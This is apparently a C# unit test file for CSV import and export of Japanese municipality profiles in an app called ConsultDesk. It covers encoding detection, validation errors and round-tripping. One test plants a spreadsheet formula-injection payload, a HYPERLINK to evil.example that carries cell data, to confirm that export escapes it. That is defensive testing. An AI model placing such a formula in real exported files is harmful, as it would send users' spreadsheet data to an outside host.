using System.Globalization;
using System.Text;
using ConsultDesk.Domain;
using ConsultDesk.Domain.LocalGovernments;
using ConsultDesk.Domain.Matching;
using ConsultDesk.Features.Municipalities;
using ConsultDesk.Tests;

namespace ConsultDesk.UnitTests.Municipalities;

public sealed class MunicipalityCsvTests
{
    private static readonly string Header = string.Join(',', MunicipalityCsv.Columns);

    // 神山町 (363421) with one office and one incentive; 海士町 (325252) with a profile row only.
    private const string Kamiyama =
        "office,363421,神山町,カミヤマチョウ,企画課,kikaku@example.jp,,紹介,G;L,small,true,false,true,false,神山サテライト,徳島県名西郡神山町1-1,10,4,5000,1000,2,平日 9:00〜18:00,220,,,,,,,\r\n" +
        "incentive,363421,神山町,カミヤマチョウ,企画課,kikaku@example.jp,,紹介,G;L,small,true,false,true,false,,,,,,,,,,開設補助金,subsidy,\"1,000,000\",1/2,町外から進出する法人,2026-04-01,2027/3/31\r\n";
    private const string Ama =
        "profile,325252,海士町,,交流促進課,koryu@example.jp,,,,,false,true,false,false,,,,,,,,,,,,,,,,\r\n";

    public MunicipalityCsvTests()
    {
        Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);
        CultureInfo.CurrentUICulture = new CultureInfo("ja");
    }

    [Fact]
    public void A_UTF8_file_with_BOM_reads_into_one_profile_per_code()
    {
        var bytes = Encoding.UTF8.GetPreamble().Concat(Encoding.UTF8.GetBytes(Header + "\r\n" + Kamiyama + Ama)).ToArray();

        var result = MunicipalityCsv.Read(bytes);

        Assert.Empty(result.Errors);
        Assert.Equal("utf-8", result.Encoding);
        Assert.Equal(["363421", "325252"], result.Groups.Select(g => g.Code));
        var kamiyama = result.Groups[0].Profile;
        Assert.Equal("神山町", kamiyama.Name);
        Assert.Equal(["G", "L"], kamiyama.WelcomedIndustries);
        Assert.Equal(["small"], kamiyama.WelcomedCompanySizes);
        Assert.True(kamiyama.WelcomesWorkation);
        Assert.True(kamiyama.IsPublished);
        var office = Assert.Single(kamiyama.Offices);
        Assert.Equal((10, 4, 5000, 1000, 2, 220), (office.Seats, office.AvailableSeats, office.MonthlyFeePerSeat, office.BandwidthMbps, office.MeetingRooms, office.TravelMinutesFromTokyo));
        var incentive = Assert.Single(kamiyama.Incentives);
        Assert.Equal(IncentiveKind.Subsidy, incentive.Kind);
        Assert.Equal(1_000_000L, incentive.CapYen);
        Assert.Equal(new DateOnly(2027, 3, 31), incentive.AvailableUntil);
        var ama = result.Groups[1].Profile;
        Assert.Empty(ama.Offices);
        Assert.Empty(ama.Incentives);
        Assert.False(ama.IsPublished);
    }

    [Fact]
    public void A_CP932_file_from_Excel_reads_the_same_Japanese()
    {
        // Windows types 〜 as U+FF5E (CP932 0x8160); U+301C has no CP932 code, so the file is written the way Excel would.
        var bytes = Encoding.GetEncoding(932).GetBytes(Header + "\r\n" + Kamiyama.Replace('〜', '～'));

        var result = MunicipalityCsv.Read(bytes);

        Assert.Empty(result.Errors);
        Assert.Equal("cp932", result.Encoding);
        var profile = Assert.Single(result.Groups).Profile;
        Assert.Equal("神山町", profile.Name);
        Assert.Equal("カミヤマチョウ", profile.NameKana);
        Assert.Equal("平日 9:00～18:00", profile.Offices[0].OpeningHours);
        Assert.Equal("町外から進出する法人", profile.Incentives[0].Eligibility);
    }

    [Fact]
    public void A_UTF8_file_without_BOM_is_UTF8()
    {
        var result = MunicipalityCsv.Read(Encoding.UTF8.GetBytes(Header + "\r\n" + Ama));

        Assert.Equal("utf-8", result.Encoding);
        Assert.Equal("海士町", Assert.Single(result.Groups).Profile.Name);
    }

    [Fact]
    public void One_bad_row_gives_no_profiles_and_names_its_row_and_column()
    {
        // Row 4 (Excel numbering, header = 1): more seats free than there are.
        var bad = "office,325252,海士町,,交流促進課,koryu@example.jp,,,,,false,true,false,false,島のオフィス,島根県隠岐郡海士町1,5,9,0,100,0,,330,,,,,,,\r\n";
        var result = MunicipalityCsv.Read(Encoding.UTF8.GetBytes(Header + "\r\n" + Kamiyama + bad));

        Assert.Empty(result.Groups);
        var error = Assert.Single(result.Errors);
        Assert.Equal(4, error.Row);
        Assert.Equal("available_seats", error.Column);
        Assert.Equal("空き席数は席数以下にしてください。", error.Message);
    }

    [Fact]
    public void Cells_that_do_not_parse_and_a_bad_code_are_each_reported()
    {
        var text = Header + "\r\n" +
            "office,363421,神山町,,企画課,kikaku@example.jp,,,,,yes,false,true,false,神山,徳島県神山町,十,0,0,100,0,,220,,,,,,,\r\n" +
            "profile,363420,誤り町,,企画課,kikaku@example.jp,,,,,false,false,false,false,,,,,,,,,,,,,,,,\r\n";

        var result = MunicipalityCsv.Read(Encoding.UTF8.GetBytes(text));

        Assert.Empty(result.Groups);
        Assert.Equal([(2, "seats"), (2, "welcomes_workation"), (3, "code")], result.Errors.Select(e => (e.Row, e.Column!)));
    }

    [Fact]
    public void A_later_row_that_contradicts_the_first_row_of_its_code_is_an_error()
    {
        var second = Kamiyama.Split("\r\n")[1].Replace("企画課", "総務課");
        var result = MunicipalityCsv.Read(Encoding.UTF8.GetBytes(Header + "\r\n" + Kamiyama.Split("\r\n")[0] + "\r\n" + second + "\r\n"));

        var error = Assert.Single(result.Errors);
        Assert.Equal((3, "contact_department"), (error.Row, error.Column));
    }

    [Fact]
    public void A_code_that_lost_its_leading_zero_in_Excel_is_restored()
    {
        var text = Header + "\r\nprofile,13951,ニセコ町,,企画課,a@example.jp,,,,,false,false,true,false,,,,,,,,,,,,,,,,\r\n";

        Assert.Equal("013951", Assert.Single(MunicipalityCsv.Read(Encoding.UTF8.GetBytes(text)).Groups).Code);
    }

    [Fact]
    public void Written_profiles_read_back_unchanged()
    {
        var now = new DateTime(2026, 11, 1, 0, 0, 0, DateTimeKind.Utc);
        var profiles = MunicipalityGenerator.Generate(LocalGovernmentDirectory.LoadEmbedded(), 30, 3, now).ToList();

        var bytes = MunicipalityCsv.Write(profiles);
        var result = MunicipalityCsv.Read(bytes);

        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        Assert.Empty(result.Errors);
        Assert.Equal(profiles.Select(p => p.Code), result.Groups.Select(g => g.Code));
        foreach (var (profile, group) in profiles.Zip(result.Groups))
        {
            var expected = MunicipalityInput.From(profile);
            Assert.Equal(System.Text.Json.JsonSerializer.Serialize(expected, Wire.JsonOptions),
                System.Text.Json.JsonSerializer.Serialize(group.Profile with { NameKana = profile.NameKana }, Wire.JsonOptions));
        }
    }

    [Fact]
    public void Text_that_looks_like_a_formula_is_escaped_for_excel_and_reads_back_unchanged()
    {
        var now = new DateTime(2026, 11, 1, 0, 0, 0, DateTimeKind.Utc);
        var input = new MunicipalityInput
        {
            Name = "=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")", ContactDepartment = "@企画課", ContactEmail = "kikaku@example.jp",
            ContactPhone = "+81-3-0000-0000", Description = "-紹介", WelcomedIndustries = ["G"], WelcomedCompanySizes = ["small"],
            Offices = [new OfficeInput { Name = "+オフィス", Address = "=A1", Seats = 10, AvailableSeats = 4, MonthlyFeePerSeat = 0, BandwidthMbps = 1000,
                MeetingRooms = 0, OpeningHours = "-", TravelMinutesFromTokyo = 200 }],
            Incentives = [new IncentiveInput { Name = "@補助", Kind = IncentiveKind.Subsidy, Rate = "-", Eligibility = "=1+1" }],
        };
        var profile = input.ApplyTo(null, "363421", LocalGovernmentDirectory.LoadEmbedded(), now);

        var bytes = MunicipalityCsv.Write([profile]);
        var result = MunicipalityCsv.Read(bytes);

        Assert.Empty(SpreadsheetCsv.Formulas(bytes));
        Assert.Contains("'+81-3-0000-0000", SpreadsheetCsv.Parse(bytes).SelectMany(r => r));
        Assert.Empty(result.Errors);
        Assert.Equal(System.Text.Json.JsonSerializer.Serialize(MunicipalityInput.From(profile), Wire.JsonOptions),
            System.Text.Json.JsonSerializer.Serialize(Assert.Single(result.Groups).Profile with { NameKana = profile.NameKana }, Wire.JsonOptions));
    }

    [Fact]
    public void The_shipped_sample_file_imports_cleanly_and_covers_every_region()
    {
        var directory = LocalGovernmentDirectory.LoadEmbedded();

        var result = MunicipalityCsv.Read(MunicipalityCsv.SampleFile());

        Assert.Empty(result.Errors);
        Assert.InRange(result.Groups.Count, 30, 40);
        Assert.All(result.Groups, g =>
        {
            Assert.True(g.Profile.IsSample);
            Assert.Equal(directory.Find(g.Code)?.Name, g.Profile.Name);
            Assert.Contains("サンプル", g.Profile.Description);
        });
        Assert.Equal(8, result.Groups.Select(g => Prefecture.Find(g.Code[..2])!.Region).Distinct().Count());
        Assert.True(result.Groups.Count(g => g.Profile.IsPublished) > result.Groups.Count / 2);
    }
}
